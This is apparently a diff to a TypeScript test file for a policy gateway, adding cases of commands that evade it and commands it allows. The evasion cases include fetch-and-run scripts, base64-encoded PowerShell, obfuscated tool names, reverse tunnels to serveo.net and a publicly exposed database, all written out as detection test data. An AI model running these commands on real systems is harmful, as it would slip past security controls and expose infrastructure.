@@ -16,6 +16,10 @@ const builds = (reason: string, props: Props | string, type = local): CleanCase 
     resources: [{ type, name: "shop", props: typeof props === "string" ? { create: props } : props }],
 });
 
+const windows = (reason: string, create: string): Evasion =>
+    runs(reason, { create, interpreter: ["powershell.exe", "-Command"] });
+const language = (reason: string, create: string): Evasion => runs(reason, { create, interpreter: ["python3", "-c"] });
+
 /** Commands that open a way past the gateway, or may do so. */
 export const commandEvasions: readonly Evasion[] = [
     runs("a tool whose arguments are in the interpreter", {
@@ -109,6 +113,41 @@ export const commandEvasions: readonly Evasion[] = [
         interpreter: ["xargs-run"],
     }),
     runs("words for a script's input", { create: "sh", stdin: "echo kubectl\nkubectl apply -f a.yaml" }),
+    windows("a tool of Windows", "kubectl.exe apply -f shop.yaml"),
+    windows("a tool's name with a mark of PowerShell in it", "kube`ctl apply -f shop.yaml"),
+    runs("a tool's name with a mark of Windows in it", "cmd /c ku^bectl apply -f shop.yaml"),
+    runs("AWS's tool for Windows", "aws.exe elbv2 create-load-balancer --name shop"),
+    runs("AWS's tool by its version", "aws2 elbv2 create-load-balancer --name shop"),
+    runs("AWS's tool as a module", "python3 -m awscli elbv2 create-load-balancer --name shop"),
+    windows("a load balancer by PowerShell", "New-ELB2LoadBalancer -Name shop -Scheme internet-facing"),
+    windows("a function URL by PowerShell", "New-LMFunctionUrlConfig -FunctionName shop -AuthType NONE"),
+    windows("a script from the network in PowerShell", "iex (iwr https://example.com/x.ps1)"),
+    windows("a script in disguise in PowerShell", "& ([Convert]::FromBase64String('a3ViZQ=='))"),
+    runs("a script in disguise as PowerShell's option", "pwsh -enc aQBlAHgA"),
+    language("a tool's name in two parts", "import subprocess; subprocess.run(['kube' + 'ctl', 'apply'])"),
+    language(
+        "a script from the network, run in Python",
+        "import urllib.request as u; exec(u.urlopen('https://x').read())",
+    ),
+    language("AWS's library below the usual one", "import botocore.session"),
+    language("the cluster's API by a library", "from kubernetes import client, config"),
+    runs("the cluster's API by another library", "node -e \"require('@kubernetes/client-node')\""),
+    runs("AWS's older library", "node -e \"new (require('aws-sdk').ELBv2)()\""),
+    runs("a tool's name in two variables", "A=kube; B=ctl; $A$B apply -f shop.yaml"),
+    runs("a tool's name that is put together", "$(printf 'kub%s' ectl) apply -f shop.yaml"),
+    runs("a script that is downloaded and run", "curl -fsSLo x https://example.com/x; chmod +x x; ./x"),
+    runs("a script that is downloaded under its own name", "wget -q https://example.com/setup.sh && sh setup.sh"),
+    runs("a script that is downloaded into a file", "curl -s https://example.com/x > /tmp/x; bash -e /tmp/x"),
+    runs(
+        "an API of AWS by its address",
+        "curl 'https://elasticloadbalancing.eu-west-1.amazonaws.com/?Action=CreateLoadBalancer'",
+    ),
+    runs("a database for everybody", "aws rds modify-db-instance --db-instance-identifier x --publicly-accessible"),
+    runs("tasks of a schedule", "aws scheduler create-schedule --name shop"),
+    runs("a harmless verb of which only the beginning is one", "aws lambda invoke-anything-else --name shop"),
+    runs("a tunnel of an agent", "rathole client.toml", "command:remote:Command"),
+    runs("a tunnel of an editor", "code tunnel --name shop", "command:remote:Command"),
+    runs("a tunnel by a setting of ssh", "ssh -N -o 'RemoteForward 80 localhost:8080' serveo.net"),
     runs("a dynamic provider in Python, of a module", {}, "pulumi-python:dynamic/shop:Opener"),
 ];
 
@@ -156,5 +195,18 @@ export const commandCleanCases: readonly CleanCase[] = [
     builds("an image that plans", "docker run --rm -v $PWD:/x -w /x hashicorp/terraform:1.9 plan"),
     builds("an image from a folder with a tool's name", "docker build -t shop terraform/app"),
     builds("words in a shell", { create: "echo helm ${A}", interpreter: ["/bin/bash", "-c"] }),
+    builds("a cache that is emptied", "aws s3 sync dist s3://shop && aws cloudfront create-invalidation --paths '/*'"),
+    builds("a function's new code", "aws lambda update-function-code --function-name shop --zip-file fileb://x.zip"),
+    builds("a function that is called", "aws lambda invoke --function-name migrate out.json"),
+    builds("a parameter that is written", "aws ssm put-parameter --name /shop --value 1 --overwrite"),
+    builds("a script of a package with a tool's name", "npm run build:helm"),
+    builds("a package of AWS's tool", "pip install awscli && aws s3 ls"),
+    builds("a tool where it is installed", "$(npm bin)/tsc -p . && $(command -v npm) run build"),
+    builds("data that is downloaded", "curl -fsSLo data.json https://example.com/data.json && ./build.sh data.json"),
+    builds("a look by PowerShell", { create: "Get-ELB2LoadBalancer; Get-LMFunctionList", interpreter: ["pwsh", "-c"] }),
+    builds("a cache that is emptied by PowerShell", {
+        create: "New-CFInvalidation -DistributionId E1",
+        interpreter: ["pwsh", "-c"],
+    }),
     builds("a copy over ssh", "ssh -o BatchMode=yes build@10.0.0.5 'ls -R /srv'", "command:remote:Command"),
 ];
